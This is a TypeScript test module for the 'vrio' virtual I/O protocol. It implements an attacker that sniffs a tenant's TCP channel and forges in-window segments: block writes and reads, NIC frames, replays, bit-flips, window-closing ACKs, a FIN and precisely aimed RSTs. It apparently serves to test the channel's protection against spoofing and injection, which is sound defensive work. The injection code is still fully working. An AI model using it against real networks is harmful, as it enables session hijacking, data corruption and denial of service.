/**
 * An attacker on a tenant's L2 segment: it sniffs the tenant's live vrio channel, learns the
 * connection (MACs, addresses, ports, sequence and acknowledgement numbers, window, timestamps and,
 * where the payload is readable, the disk and NIC handles) and injects, built from what it saw:
 * block writes (one where the tenant wrote last) and a read, a NIC frame, a Skip, pure ACKs, a FIN, verbatim replays and
 * bit-flipped copies of captured frames, and RSTs at the exact next sequence number. Sequence
 * numbers come from the latest sniffed segment, so every forged segment is in the receiver's window:
 * on a plaintext channel they are accepted.
 *
 * The logic is here (`Attacker`, I/O-free); attacker-main.ts runs it as its own process in the
 * attacker's namespace on a packet socket, and `runAttacker` starts that process from a test.
 * Only the TCP/IP headers are parsed by hand (tolerant of options this build does not know, such
 * as a seal); frames are built with the project's wire codecs.
 */
import { spawn } from 'node:child_process'
import { randomBytes } from 'node:crypto'
import { fileURLToPath } from 'node:url'
import { readU16, readU32, writeU32 } from '../../src/wire/bytes.ts'
import { encodeTcpFrame, newTcpFrame, tcpFrameHeaderLength } from '../../src/wire/frame.ts'
import { encodeMessageHeader, MessageType, newMessageHeader } from '../../src/wire/message-header.ts'
import {
  clearTcpOptions,
  OPT_EXPERIMENTAL,
  setTcpChecksum,
  TCP_ACK,
  TCP_FIN,
  TCP_PSH,
  TCP_RST,
  TCP_SYN,
  VRIO_EXID,
  VRIO_OPTION_SEGMENT,
} from '../../src/wire/tcp.ts'
import type { Netns } from './netns.ts'

export interface AttackConfig {
  /** The attacker's interface (in its namespace). */
  ifname: string
  /** vrio addresses of the IOhyp and of the tenant's guest, and the guest's listen port. */
  iohypIp: number
  guestIp: number
  guestPort: number
  /**
   * The IOhyp's window scale. The handshake happened before the attacker came, so it was not seen;
   * the implementation's default (8 MiB receive buffer: 7) is public knowledge.
   */
  windowScale: number
  /** Longest time to sniff for the handles before injecting anyway (ms). */
  sniffMs: number
  /**
   * The block write to inject: device offset and the data (hex). The same data is also written over
   * the tenant's latest sniffed write (where its own verification reads it back).
   */
  write: { offset: number; data: string }
  /** The block read to inject. */
  read: { offset: number; length: number }
  /** An Ethernet frame (hex) to put on the tenant's NIC, as if the guest had sent it. */
  nicFrame: string
  /** Verbatim replays and bit-flipped copies per direction. */
  replays: number
  /** How long to keep sending RSTs at the latest sequence numbers (ms), and at most how many per direction. */
  rstMs: number
  rstMax: number
}

export const INJECTED_KINDS = [
  'blk-write',
  'blk-read',
  'nic-frame',
  'skip',
  'ack',
  'fin',
  'replay',
  'bit-flip',
  'rst',
] as const
export type InjectedKind = (typeof INJECTED_KINDS)[number]

export interface AttackReport {
  learned: {
    /** The IOhyp's port(s) seen for the tenant's channel (more than one: it reconnected). */
    iohypPorts: number[]
    diskHandle: [number, number] | null
    /** Offset of the tenant's latest block write seen (the second injected write goes there), or -1. */
    tenantWrite: number
    nicHandle: [number, number] | null
    framesSniffed: { toIohyp: number; toGuest: number }
    /** Data segments seen, by direction and message type ("cont": not a message's first segment). */
    messages: Record<string, number>
  }
  /** Frames sent, by kind. */
  injected: Record<InjectedKind, number>
  /** Frames that no honest end sent: everything but the verbatim replays. */
  forged: number
  /** The IOhyp answered the injected read with its data (seen only on a readable channel). */
  readAnswered: boolean
  /** Phases' timing, for failure messages. */
  notes: string[]
}

/** One direction of the channel, as the attacker knows it. */
interface Flow {
  seen: number
  srcMac: number
  dstMac: number
  srcIp: number
  dstIp: number
  srcPort: number
  dstPort: number
  /** The sender's next sequence number: the end of the highest segment seen. */
  nextSeq: number
  ack: number
  window: number
  tsVal: number
  tsEcho: number
  /** Copies of the latest frames, and of the latest ones with payload. */
  recent: Buffer[]
  recentData: Buffer[]
}

function newFlow(): Flow {
  return {
    seen: 0,
    srcMac: 0,
    dstMac: 0,
    srcIp: 0,
    dstIp: 0,
    srcPort: 0,
    dstPort: 0,
    nextSeq: 0,
    ack: 0,
    window: 0,
    tsVal: 0,
    tsEcho: 0,
    recent: [],
    recentData: [],
  }
}

/** a after b, in sequence space. */
const seqAfter = (a: number, b: number) => ((a - b) | 0) > 0
const u32 = (n: number) => n >>> 0
const readMac48 = (f: Uint8Array, at: number) => readU16(f, at) * 2 ** 32 + readU32(f, at + 2)

const RING = 32
/** Data segments from the guest after which a channel that showed no disk handle counts as unreadable. */
const UNREADABLE_AFTER = 500
const BLOCK_DESCRIPTOR = 24
const SEGMENT_RELIABLE = 1
const SEGMENT_BEST_EFFORT = 2
const SEGMENT_SKIP = 0x80
const VIRTIO_BLK_T_IN = 0
const VIRTIO_BLK_T_OUT = 1

/** The attack, free of I/O: feed it every sniffed frame with `observe`; it sends through `send`. */
export class Attacker {
  private readonly c: AttackConfig
  private readonly send: (frames: Buffer[]) => void
  private readonly toIohyp = newFlow()
  private readonly toGuest = newFlow()
  private readonly iohypPorts: number[] = []
  private diskHandle: [number, number] | null = null
  private nicHandle: [number, number] | null = null
  /** Our block requests' epoch (a new front-end, as far as the IOhyp can tell) and the read's id. */
  private readonly epoch = (randomBytes(4).readUInt32BE(0) | 1) >>> 0
  private readonly readId = 2
  private readAnswered = false
  private readonly injected = Object.fromEntries(INJECTED_KINDS.map((k) => [k, 0])) as Record<
    InjectedKind,
    number
  >
  private readonly notes: string[] = []
  /** Data segments seen, by direction and message type (of a message's first segment). */
  private readonly messages: Record<string, number> = {}
  private dataToIohyp = 0
  /** Offset of the tenant's latest sniffed block write, or -1. */
  private tenantWrite = -1
  private afterBatch: (() => void) | undefined

  constructor(config: AttackConfig, send: (frames: Buffer[]) => void) {
    this.c = config
    this.send = send
  }

  /** One sniffed frame (the buffer may be reused after the call). */
  observe(f: Uint8Array): void {
    if (f.length < 54 || readU16(f, 12) !== 0x0800 || f[23] !== 6) return
    const ihl = (f[14] & 0x0f) * 4
    const totalLength = readU16(f, 16)
    const src = readU32(f, 26)
    const dst = readU32(f, 30)
    const t = 14 + ihl
    if (t + 20 > f.length) return
    const sport = readU16(f, t)
    const dport = readU16(f, t + 2)
    let flow: Flow
    if (src === this.c.guestIp && dst === this.c.iohypIp && sport === this.c.guestPort) flow = this.toIohyp
    else if (src === this.c.iohypIp && dst === this.c.guestIp && dport === this.c.guestPort)
      flow = this.toGuest
    else return
    const iohypPort = flow === this.toIohyp ? dport : sport
    if (!this.iohypPorts.includes(iohypPort)) this.iohypPorts.push(iohypPort)
    const seq = readU32(f, t + 4)
    const ack = readU32(f, t + 8)
    const doff = (f[t + 12] >>> 4) * 4
    const flags = f[t + 13]
    const payloadOffset = t + doff
    const payloadLength = Math.max(0, 14 + totalLength - payloadOffset)
    if (flow.srcPort !== sport || flow.dstPort !== dport || flags & TCP_SYN) {
      // A new connection (or the first frame): start over.
      Object.assign(flow, newFlow())
      flow.nextSeq = seq
    }
    flow.seen++
    flow.dstMac = readMac48(f, 0)
    flow.srcMac = readMac48(f, 6)
    flow.srcIp = src
    flow.dstIp = dst
    flow.srcPort = sport
    flow.dstPort = dport
    const end = u32(seq + payloadLength + (flags & (TCP_SYN | TCP_FIN) ? 1 : 0))
    if (flow.seen === 1 || seqAfter(end, flow.nextSeq)) flow.nextSeq = end
    if (flags & TCP_ACK && (flow.seen === 1 || seqAfter(ack, flow.ack))) flow.ack = ack
    flow.window = readU16(f, t + 14)
    let segment: { messageStart: number } | undefined
    for (let p = t + 20; p < payloadOffset && p < f.length; ) {
      const kind = f[p]
      if (kind === 0) break
      if (kind === 1) {
        p++
        continue
      }
      const len = f[p + 1]
      if (len < 2) break
      if (kind === 8 && len === 10) {
        flow.tsVal = readU32(f, p + 2)
        flow.tsEcho = readU32(f, p + 6)
      } else if (
        kind === OPT_EXPERIMENTAL &&
        len >= 14 &&
        readU16(f, p + 2) === VRIO_EXID &&
        f[p + 4] === VRIO_OPTION_SEGMENT
      ) {
        segment = { messageStart: readU32(f, p + 6) }
      }
      p += len
    }
    const copy = Buffer.from(f.subarray(0, 14 + totalLength))
    flow.recent.push(copy)
    if (flow.recent.length > RING) flow.recent.shift()
    if (payloadLength > 0) {
      flow.recentData.push(copy)
      if (flow.recentData.length > RING) flow.recentData.shift()
    }
    // The first segment of a readable message starts with its header: learn handles, see answers.
    if (payloadLength > 0) {
      if (flow === this.toIohyp) this.dataToIohyp++
      const k = `${flow === this.toIohyp ? 'toIohyp' : 'toGuest'} ${
        !segment
          ? 'no-segment-option'
          : segment.messageStart === seq
            ? `0x${f[payloadOffset + 1]?.toString(16)}`
            : 'cont'
      }`
      this.messages[k] = (this.messages[k] ?? 0) + 1
    }
    if (segment && segment.messageStart === seq && payloadLength >= 32 && f[payloadOffset] === 1) {
      const type = f[payloadOffset + 1]
      const handle: [number, number] = [readU32(f, payloadOffset + 8), readU32(f, payloadOffset + 12)]
      if (flow === this.toIohyp && type === MessageType.BlockRequest) {
        this.diskHandle = handle
        // The tenant's latest write: where its data sits that it will read back and verify.
        if (payloadLength >= 56 && f[payloadOffset + 32] === VIRTIO_BLK_T_OUT)
          this.tenantWrite = readU32(f, payloadOffset + 40) * 2 ** 32 + readU32(f, payloadOffset + 44)
      }
      if (flow === this.toIohyp && type === MessageType.NetFrame) this.nicHandle = handle
      if (
        flow === this.toGuest &&
        type === MessageType.BlockResponse &&
        readU32(f, payloadOffset + 16) === this.epoch &&
        readU32(f, payloadOffset + 20) === this.readId &&
        readU16(f, payloadOffset + 28) === 0 && // OK, with the data (not NO_DEVICE echoing a guessed handle)
        readU32(f, payloadOffset + 4) === this.c.read.length
      )
        this.readAnswered = true
    }
  }

  /** Sniffs, injects everything, and reports. */
  async run(): Promise<AttackReport> {
    const started = Date.now()
    // Until both handles are known; on a channel whose payload is unreadable, until the tenant's
    // disk traffic is in full flow (a readable one shows the disk handle in its first request).
    await this.until(
      () =>
        this.toIohyp.seen > 0 &&
        this.toGuest.seen > 0 &&
        ((this.diskHandle !== null && this.nicHandle !== null) || this.dataToIohyp >= UNREADABLE_AFTER),
      this.c.sniffMs,
    )
    this.notes.push(`sniffed ${Date.now() - started} ms: ${JSON.stringify(this.messages)}`)
    if (this.toIohyp.seen === 0 || this.toGuest.seen === 0)
      throw new Error(
        `saw no channel traffic in ${this.c.sniffMs} ms (${this.toIohyp.seen} / ${this.toGuest.seen} frames)`,
      )
    this.injectMessages()
    await sleep(100)
    this.injectControl()
    this.injectReplays()
    await sleep(100)
    await this.injectResets()
    await sleep(300) // the answer to the read, and the channel's reaction
    return {
      learned: {
        iohypPorts: this.iohypPorts,
        diskHandle: this.diskHandle,
        tenantWrite: this.tenantWrite,
        nicHandle: this.nicHandle,
        framesSniffed: { toIohyp: this.toIohyp.seen, toGuest: this.toGuest.seen },
        messages: this.messages,
      },
      injected: this.injected,
      forged: Object.entries(this.injected)
        .filter(([k]) => k !== 'replay')
        .reduce((a, [, n]) => a + n, 0),
      readAnswered: this.readAnswered,
      notes: this.notes,
    }
  }

  /** Block write and read, a NIC frame and a Skip, from the guest to the IOhyp, ahead in its window. */
  private injectMessages(): void {
    const g = this.toIohyp
    const window = Math.min(this.toGuest.window * 2 ** this.c.windowScale, 4 * 1024 * 1024)
    // Reliable and best-effort messages are delivered as soon as they are whole, wherever they lie
    // in the window: placed ahead of the guest's own data, the tenant's traffic cannot overtake them.
    let at = u32(g.nextSeq + Math.floor(window / 4))
    this.notes.push(`guest next seq ${g.nextSeq}, IOhyp window ${window}, injecting at ${at}`)
    const disk = this.diskHandle ?? this.guessHandle()
    const nic = this.nicHandle ?? this.guessHandle()
    const data = Buffer.from(this.c.write.data, 'hex')
    const messages: [InjectedKind, Buffer, number][] = [
      [
        'blk-write',
        this.blockRequest(disk, VIRTIO_BLK_T_OUT, this.c.write.offset, data.length, 1, data),
        SEGMENT_RELIABLE,
      ],
      [
        // Over the block the tenant wrote last (or, blind, its first): its verify must catch this.
        'blk-write',
        this.blockRequest(disk, VIRTIO_BLK_T_OUT, Math.max(this.tenantWrite, 0), data.length, 3, data),
        SEGMENT_RELIABLE,
      ],
      [
        'blk-read',
        this.blockRequest(disk, VIRTIO_BLK_T_IN, this.c.read.offset, this.c.read.length, this.readId),
        SEGMENT_RELIABLE,
      ],
      ['nic-frame', this.netFrame(nic, Buffer.from(this.c.nicFrame, 'hex')), SEGMENT_BEST_EFFORT],
    ]
    for (const [kind, message, delivery] of messages) {
      this.emit(kind, [
        this.segment(g, {
          seq: at,
          flags: TCP_ACK | TCP_PSH,
          payload: message,
          vrio: { flags: delivery, messageStart: at, messageLength: message.length },
        }),
      ])
      at = u32(at + message.length + 4096)
    }
    // Skip: "the rest of best-effort message `at` will never come; count it as received".
    this.emit('skip', [
      this.segment(g, {
        seq: at,
        flags: TCP_ACK,
        vrio: { flags: SEGMENT_BEST_EFFORT | SEGMENT_SKIP, messageStart: at, messageLength: 64 * 1024 },
      }),
    ])
  }

  /** Pure ACKs closing the window in both directions, and a FIN from the guest. */
  private injectControl(): void {
    this.emit('ack', [
      this.segment(this.toIohyp, { seq: this.toIohyp.nextSeq, flags: TCP_ACK, window: 0 }),
      this.segment(this.toGuest, { seq: this.toGuest.nextSeq, flags: TCP_ACK, window: 0 }),
    ])
    this.emit('fin', [this.segment(this.toIohyp, { seq: this.toIohyp.nextSeq, flags: TCP_FIN | TCP_ACK })])
  }

  /** Captured frames again, verbatim and with one bit flipped (checksums made right again). */
  private injectReplays(): void {
    for (const flow of [this.toIohyp, this.toGuest]) {
      const verbatim = flow.recent.slice(-this.c.replays)
      this.emit('replay', verbatim)
      const pool = flow.recentData.length > 0 ? flow.recentData : flow.recent
      const flipped = pool.slice(-this.c.replays).map((orig, i) => {
        const f = Buffer.from(orig)
        const t = 14 + (f[14] & 0x0f) * 4
        const payloadOffset = t + (f[t + 12] >>> 4) * 4
        if (f.length > payloadOffset) {
          const at = payloadOffset + ((i * 131 + 7) % (f.length - payloadOffset))
          f[at] ^= 1 << (i % 8)
        } else {
          f[t + 15] ^= 1 // the window's low bit
        }
        setTcpChecksum(f, t, f.length - t, readU32(f, 26), readU32(f, 30))
        return f
      })
      this.emit('bit-flip', flipped)
    }
  }

  /**
   * RSTs at exactly the receiver's next sequence number (RFC 5961 obeys only those), to both ends:
   * at the sender's next sequence number and, when it differs, at the receiver's latest ACK. Sent
   * right after every batch of sniffed frames and every 10 ms, for rstMs or rstMax rounds. On a
   * busy channel the attacker's view lags (it shares the CPUs); once the channel is quiet its view
   * is exact, so rstMs should outlast the tenant's burst.
   */
  private async injectResets(): Promise<void> {
    const deadline = Date.now() + this.c.rstMs
    let rounds = 0
    let last = 0
    const fire = () => {
      const now = performance.now()
      if (rounds >= this.c.rstMax || Date.now() >= deadline || now - last < 1) return
      rounds++
      last = now
      const frames: Buffer[] = []
      for (const [to, from] of [
        [this.toGuest, this.toIohyp],
        [this.toIohyp, this.toGuest],
      ]) {
        frames.push(this.segment(to, { seq: to.nextSeq, flags: TCP_RST | TCP_ACK }))
        if (from.ack !== to.nextSeq)
          frames.push(this.segment(to, { seq: from.ack, flags: TCP_RST | TCP_ACK }))
      }
      this.emit('rst', frames)
    }
    this.afterBatch = fire
    while (Date.now() < deadline && rounds < this.c.rstMax) {
      fire()
      await sleep(10)
    }
    this.afterBatch = undefined
    this.notes.push(`${rounds} rounds of RSTs`)
  }

  /** Call after each batch of `observe` calls. */
  batchDone(): void {
    this.afterBatch?.()
  }

  private emit(kind: InjectedKind, frames: Buffer[]): void {
    if (frames.length === 0) return
    this.send(frames)
    this.injected[kind] += frames.length
  }

  /** Bytes of the latest payload where a handle would be: what a blind attacker has. */
  private guessHandle(): [number, number] {
    const f = this.toIohyp.recentData.at(-1)
    if (!f || f.length < 70) return [randomBytes(4).readUInt32BE(0), randomBytes(4).readUInt32BE(0)]
    return [readU32(f, f.length - 16), readU32(f, f.length - 12)]
  }

  private blockRequest(
    handle: [number, number],
    op: number,
    offset: number,
    length: number,
    id: number,
    data?: Buffer,
  ): Buffer {
    const h = newMessageHeader()
    h.type = MessageType.BlockRequest
    h.deviceHigh = handle[0]
    h.deviceLow = handle[1]
    h.requestHigh = this.epoch
    h.requestLow = id
    h.replyLength = op === VIRTIO_BLK_T_IN ? length : 0
    h.bodyLength = BLOCK_DESCRIPTOR + (data?.length ?? 0)
    const msg = Buffer.alloc(32 + h.bodyLength)
    encodeMessageHeader(msg, 0, h)
    msg[32] = op
    writeU32(msg, 36, length)
    writeU32(msg, 40, Math.floor(offset / 2 ** 32))
    writeU32(msg, 44, offset >>> 0)
    writeU32(msg, 48, 1) // floor: our first id
    data?.copy(msg, 32 + BLOCK_DESCRIPTOR)
    return msg
  }

  private netFrame(handle: [number, number], frame: Buffer): Buffer {
    const h = newMessageHeader()
    h.type = MessageType.NetFrame
    h.deviceHigh = handle[0]
    h.deviceLow = handle[1]
    h.bodyLength = 10 + frame.length // an all-zero virtio_net_hdr, then the frame
    const msg = Buffer.alloc(32 + h.bodyLength)
    encodeMessageHeader(msg, 0, h)
    frame.copy(msg, 42)
    return msg
  }

  /** A segment of `flow`'s direction, acknowledging what the other side sent last. */
  private segment(
    flow: Flow,
    o: {
      seq: number
      flags: number
      window?: number
      payload?: Buffer
      vrio?: { flags: number; messageStart: number; messageLength: number }
    },
  ): Buffer {
    const other = flow === this.toIohyp ? this.toGuest : this.toIohyp
    const f = newTcpFrame()
    f.ethernet.source = flow.srcMac
    f.ethernet.destination = flow.dstMac
    f.ip.source = flow.srcIp
    f.ip.destination = flow.dstIp
    f.ip.identification = randomBytes(2).readUInt16BE(0)
    f.tcp.sourcePort = flow.srcPort
    f.tcp.destinationPort = flow.dstPort
    f.tcp.seq = o.seq
    f.tcp.ack = other.nextSeq
    f.tcp.flags = o.flags
    f.tcp.window = o.window ?? flow.window
    const opts = f.tcp.options
    clearTcpOptions(opts)
    opts.hasTimestamp = true
    opts.tsValue = u32(flow.tsVal + 1)
    opts.tsEcho = other.tsVal
    if (o.vrio) Object.assign(opts.vrio, { present: true, ...o.vrio })
    const payload = o.payload ?? Buffer.alloc(0)
    const header = tcpFrameHeaderLength(opts)
    const buf = Buffer.alloc(header + payload.length)
    payload.copy(buf, header)
    const length = encodeTcpFrame(buf, f, payload.length)
    return buf.subarray(0, length)
  }

  private async until(cond: () => boolean, ms: number): Promise<void> {
    const deadline = Date.now() + ms
    while (!cond() && Date.now() < deadline) await sleep(2)
  }
}

const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms))

const MAIN = fileURLToPath(new URL('./attacker-main.js', import.meta.url))

/** Runs the attacker as its own process in `ns`; resolves with its report. */
export function runAttacker(ns: Netns, config: AttackConfig, timeoutMs = 30_000): Promise<AttackReport> {
  return new Promise((resolve, reject) => {
    const child = spawn(
      'ip',
      ['netns', 'exec', ns.name, process.execPath, '--enable-source-maps', MAIN, JSON.stringify(config)],
      { stdio: ['ignore', 'pipe', 'pipe'] },
    )
    let stdout = ''
    let stderr = ''
    child.stdout.on('data', (d) => (stdout += d))
    child.stderr.on('data', (d) => (stderr += d))
    const timer = setTimeout(() => child.kill('SIGKILL'), timeoutMs)
    const killOnExit = () => child.kill('SIGKILL') // a test that dies leaves no attacker behind
    process.once('exit', killOnExit)
    child.on('close', (code, signal) => {
      clearTimeout(timer)
      process.off('exit', killOnExit)
      if (code !== 0) {
        reject(new Error(`the attacker failed (${code ?? signal}): ${stderr.trim()}`))
        return
      }
      try {
        resolve(JSON.parse(stdout.trim().split('\n').pop() ?? '') as AttackReport)
      } catch {
        reject(new Error(`the attacker printed no report: ${stdout}${stderr}`))
      }
    })
  })
}
